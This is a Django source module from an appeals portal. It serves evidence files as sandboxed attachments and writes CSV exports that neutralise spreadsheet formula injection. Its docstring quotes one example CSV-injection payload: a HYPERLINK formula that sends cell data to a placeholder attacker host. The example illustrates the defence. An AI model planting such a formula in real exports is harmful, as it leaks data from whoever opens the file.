"""Files the portal sends: stored evidence and CSV exports.

Evidence goes out through :func:`evidence_file_response`: as an attachment named by the
portal (never by the uploader), typed by what was detected at upload, never rendered.

CSV exports go through :func:`csv_writer`. A cell that begins with ``=``, ``+``, ``-`` or
``@`` (or a tab, carriage return or line feed before one of them) is read as a formula by
Excel, LibreOffice and Google Sheets: ``=HYPERLINK("https://evil.example/?"&A2,"open")``
typed as a victim reference or a sign-up address would run on an advocate's or auditor's
machine (OWASP, "CSV Injection"). Such text cells get a leading single quote, so the
spreadsheet shows them as text.

Numbers are decided by type, not by their look: an ``int``, ``float`` or ``Decimal``
the portal computed is written as it is (``-3`` stays a number in a numeric column),
while text that looks like a number (``"-3"``, typed by someone) is text and is
neutralised like any other text. A number cannot carry a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any, Protocol, TypeVar

from django.http import FileResponse, HttpResponseBase, StreamingHttpResponse

from appeals.evidence_types import served_type
from appeals.models import EvidenceFile
from appeals.selectors.appeals import evidence_served_name


def evidence_file_response(evidence: EvidenceFile) -> FileResponse:
    """Every door that serves evidence answers through here: as an attachment named
    by the portal (never the uploader), typed by what was detected, never rendered."""
    kind = served_type(evidence.mime)
    content_type = f"{kind.mime}; charset=utf-8" if kind.mime == "text/plain" else kind.mime
    response = FileResponse(
        evidence.file.open("rb"),
        as_attachment=True,
        filename=evidence_served_name(evidence),
        content_type=content_type,
    )
    response["X-Content-Type-Options"] = "nosniff"
    response["Content-Security-Policy"] = "default-src 'none'; sandbox"
    response["Cache-Control"] = "private, no-store"
    return response


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value: Any) -> Any:
    """One cell as a spreadsheet may safely read it."""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal) or value is None:
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


class SafeCSVWriter:
    """``csv.writer`` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, target: _Writable) -> None:
        self._writer = csv.writer(target)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _Echo:
    """A file that hands back what is written, for streaming one row at a time."""

    def write(self, value: str) -> str:
        return value


def csv_writer(target: _Writable | None = None) -> SafeCSVWriter:
    """The writer every CSV export uses; without ``target``, ``writerow`` returns the
    line, for a ``StreamingHttpResponse``."""
    return SafeCSVWriter(target if target is not None else _Echo())


ResponseT = TypeVar("ResponseT", bound=HttpResponseBase)


def attachment(response: ResponseT, filename: str) -> ResponseT:
    """Mark ``response`` as a download named ``filename`` (a name the portal made)."""
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def pdf_attachment(file: Any, filename: str) -> FileResponse:
    """A stored letter as a PDF download, never rendered in a frame of ours."""
    response = FileResponse(
        file.open("rb"), as_attachment=True, filename=filename, content_type="application/pdf"
    )
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "private, no-store"
    return response


def csv_stream(
    header: Iterable[Any], rows: Iterable[Iterable[Any]], *, filename: str
) -> StreamingHttpResponse:
    """A CSV download written a row at a time (bounded memory on any table), every cell
    through :func:`csv_cell`; personal, so never kept by a cache."""
    writer = csv_writer()

    def lines() -> Iterator[str]:
        yield writer.writerow(header)
        for row in rows:
            yield writer.writerow(row)

    response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
    response["Cache-Control"] = "private, no-store"
    attachment(response, filename)
    return response
